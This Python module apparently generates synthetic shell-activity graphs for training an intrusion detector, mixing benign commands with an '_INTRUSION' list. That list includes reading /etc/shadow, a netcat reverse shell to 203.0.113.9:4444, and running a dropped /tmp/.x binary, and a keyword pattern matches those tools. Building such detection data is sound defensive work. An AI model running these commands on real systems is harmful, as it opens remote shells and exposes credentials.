"""Made-up windows: ordinary work, and the same with an intruder's commands in it."""

import random
from collections.abc import Sequence
from dataclasses import replace
from datetime import UTC, datetime

import pyarrow as pa

from models.captures import Capture
from models.dataset import Example
from models.tensors import WindowGraph
from pipelines.schemas.graphs import WINDOW_GRAPHS

START = int(datetime(2026, 3, 1, 9, tzinfo=UTC).timestamp()) * 1_000_000
MINUTE = 60_000_000

_WORK = (
    "ls -l",
    "git status",
    "make all",
    "vim notes.txt",
    "python3 report.py",
    "cat README",
    "grep -r todo src",
    "date",
)
_INTRUSION = (
    "whoami",
    "id",
    "uname -a",
    "cat /etc/shadow",
    "nc -e /bin/sh 203.0.113.9 4444",
    "chmod +x /tmp/.x",
    "/tmp/.x",
)


def window(seed: int, *, attack: bool, platform: str = "linux", minute: int = 0, n_commands: int = 8) -> WindowGraph:
    """One window: a shell that starts programs, some of which write files or connect."""
    draw = random.Random(seed)
    commands = [draw.choice(_WORK) for _ in range(n_commands)]
    if attack:
        commands[2:2] = draw.sample(_INTRUSION, 4)
    start = START + minute * MINUTE
    ids, types, labels, texts = ["shell"], ["process"], ["bash"], ["/bin/bash\nbash\nuser=root"]
    edges: list[tuple[str, str, str, int, str, str]] = []

    def add(node: str, kind: str, label: str, text: str) -> None:
        if node not in ids:
            ids.append(node)
            types.append(kind)
            labels.append(label)
            texts.append(text)

    for number, command in enumerate(commands):
        time = start + int((number + draw.random()) * 3 * MINUTE / (len(commands) + 1))
        program = command.split()[0].rsplit("/", 1)[-1]
        process, path = f"p{number}", f"/usr/bin/{program}"
        add(process, "process", program, f"{path}\n{command}\nuser=root")
        edges.append(("shell", process, "spawned", time, f"e{number}", "process_created"))
        if program in ("make", "vim"):
            add(f"f{number}", "file", "out.txt", "/srv/build/out.txt")
            edges.append((process, f"f{number}", "wrote", time + 1000, f"w{number}", "file_written"))
        if program == "nc":
            add("net", "network", "203.0.113.9:4444", "address=203.0.113.9\nport=4444\nprotocol=tcp")
            edges.append((process, "net", "connected_to", time + 2000, f"c{number}", "connected"))
    return WindowGraph(
        "made-up", "machine-1", platform, start, start + 3 * MINUTE, ids, types, labels, texts,
        [e[0] for e in edges], [e[1] for e in edges], [e[2] for e in edges], [e[3] for e in edges],
        [e[4] for e in edges], [e[5] for e in edges],
    )  # fmt: skip


def examples(n_captures: int, *, windows: int = 2) -> list[Example]:
    """Windows of captures, every second one attacked."""
    made = []
    for number in range(n_captures):
        is_attack = number % 2 == 0
        capture = Capture(f"c{number:02}", "", "linux", "auditd", is_attack, ("T1059",), f"role{number // 2 % 4}", "")
        for minute in range(windows):
            graph = window(100 * number + minute, attack=is_attack, minute=minute)
            made.append(Example(graph, "attack" if is_attack else "normal", capture))
    return made


def noted(n_captures: int) -> list[Example]:
    """Made-up windows whose processes have keys, and captures that say which of them are the intruder's."""
    found = []
    for one in examples(n_captures):
        graph, pid_of = one.graph, {}
        for number, (node, kind) in enumerate(zip(graph.node_ids, graph.node_types, strict=True)):
            if kind == "process":
                pid_of[node] = 900 - number  # so that the order of keys is not that of the row
        key = {node: f"machine-1/{pid}@1700000000000000" for node, pid in pid_of.items()}
        pids = frozenset(
            pid_of[node]
            for node, text in zip(graph.node_ids, graph.node_texts, strict=True)
            if node in pid_of
            and one.is_attack
            and any(tool in text for tool in ("whoami", "\nid\n", "uname", "shadow", "/tmp/.x", "nc -e"))
        )
        renamed = replace(
            graph,
            node_ids=[key.get(node, node) for node in graph.node_ids],
            edge_srcs=[key.get(node, node) for node in graph.edge_srcs],
            edge_dsts=[key.get(node, node) for node in graph.edge_dsts],
        )
        found.append(Example(renamed, one.label, replace(one.capture, attack_pids=pids)))
    return found


def table_of(made: Sequence[Example]) -> pa.Table:
    """Examples as a training lake holds them."""
    found = []
    for graph, label in ((one.graph, one.label) for one in made):
        nodes = zip(graph.node_ids, graph.node_types, graph.node_labels, graph.node_texts, strict=True)
        edges = zip(
            graph.edge_srcs, graph.edge_dsts, graph.edge_types, graph.edge_times, graph.edge_event_ids, graph.edge_texts,
            strict=True,
        )  # fmt: skip
        found.append({
            "tenant": graph.tenant, "endpoint": graph.endpoint, "platform": graph.platform,
            "window_start": graph.window_start, "window_end": graph.window_end, "n_events": graph.n_edges,
            "n_edges_dropped": 0, "label": label,
            "nodes": [dict(zip(("id", "type", "label", "text"), node, strict=True)) for node in nodes],
            "edges": [
                {**dict(zip(("src", "dst", "type", "ts", "event_id", "text"), edge, strict=True)), "n_events": 1}
                for edge in edges
            ],
        })  # fmt: skip
    schema = WINDOW_GRAPHS.remove_metadata().append(pa.field("label", pa.string()))
    return pa.Table.from_pylist(found, pa.schema([field.remove_metadata() for field in schema]))
